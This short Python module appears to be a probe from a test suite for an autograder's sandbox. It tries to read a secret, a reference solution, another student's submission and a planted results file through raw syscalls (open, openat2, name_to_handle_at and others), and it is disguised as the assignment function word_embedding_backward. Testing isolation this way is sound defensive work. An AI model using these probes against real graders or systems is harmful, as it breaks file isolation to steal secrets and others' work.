"""Hope: a path is opened by a call that nobody thought of: without Python, by another call, or another architecture's."""

import ctypes
import os

from a3 import kit

GOAL = "read"
ROUTE = "files"
SCORE = 29.29
PATHS = (kit.SECRET, f"{kit.COURSE}/reference/rnn.py", f"{kit.NEIGHBOUR}/a3/rnn_layers.py", f"{kit.RESULTS}/planted.txt")


def attack():
    """Open with open, openat, openat2, creat, O_PATH, and ask about a file in every way that there is."""
    for path in PATHS:
        name, room = ctypes.create_string_buffer(path.encode()), ctypes.create_string_buffer(4096)
        kit.attempt(kit.call, 2, name, 0)
        kit.attempt(kit.call, 257, -100, name, 0)
        for resolve in (0, 1, 2, 4, 8, 16, 32):
            how = ctypes.create_string_buffer((0).to_bytes(8, "little") * 2 + resolve.to_bytes(8, "little"))
            kit.attempt(kit.call, 437, -100, name, how, 24)
        for number in (4, 6, 21, 85, 86, 89, 137, 191):
            kit.attempt(kit.call, number, name, room, room, 4096)
        kit.attempt(kit.call, 303, -100, name, room, room, 0)
        kit.attempt(kit.call, 134, name)
        for flags in (os.O_PATH, os.O_TMPFILE | os.O_RDWR, os.O_RDONLY | os.O_NOATIME | os.O_NONBLOCK):
            kit.attempt(os.open, path, flags)
        kit.attempt(os.stat, path)


word_embedding_backward = kit.in_one_test(attack)
